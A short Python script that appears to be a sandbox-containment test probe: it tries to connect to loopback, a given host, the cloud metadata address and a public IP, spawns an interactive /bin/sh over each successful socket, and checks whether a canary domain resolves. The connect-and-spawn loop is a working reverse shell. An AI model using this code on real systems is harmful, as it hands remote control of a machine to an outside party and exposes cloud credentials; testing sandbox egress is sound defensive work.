# NET-01/NET-08/LANG-01: try to phone home over every route and hand a shell to whoever answers.
import os
import socket
import subprocess
import sys

tcp_port, udp_port, host_ip = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
for name, addr in [
    ("loopback", ("127.0.0.1", tcp_port)),
    ("host", (host_ip, tcp_port)),
    ("metadata", ("169.254.169.254", 80)),
    ("public", ("93.184.216.34", 80)),
]:
    try:
        s = socket.create_connection(addr, timeout=1)
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        subprocess.call(["/bin/sh", "-i"])
        print(f"{name}=CONNECTED", file=sys.stderr)
    except OSError as e:
        print(f"{name}={type(e).__name__}:{e.errno}")
try:
    socket.getaddrinfo("stockade-adv-canary.example", 80)
    print("dns=RESOLVED")
except OSError as e:
    print(f"dns={type(e).__name__}")
print("done=1")
